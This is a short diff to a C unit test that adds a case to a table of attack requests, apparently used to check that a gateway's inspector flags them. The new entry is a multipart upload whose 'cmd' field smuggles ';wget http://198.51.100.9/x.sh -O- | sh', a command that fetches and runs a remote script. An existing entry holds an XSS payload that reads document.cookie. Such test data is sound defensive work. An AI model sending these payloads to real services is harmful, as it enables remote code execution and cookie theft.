@@ -102,6 +102,10 @@ static void test_attacks(void **state)
 		  MOAT_INSP_PHP },
 		{ "GET / HTTP/1.1\r\nHost: gw\r\nReferer: javascript:alert(document.cookie)\r\n\r\n",
 		  MOAT_INSP_XSS },
+		{ "POST /upload HTTP/1.1\r\nHost: gw\r\n"
+		  "Content-Type: multipart/form-data; boundary=XyZ\r\n\001"
+		  "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n"
+		  ";wget http://198.51.100.9/x.sh -O- | sh\r\n--XyZ--\r\n", MOAT_INSP_RCE },
 	};
 
 	for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
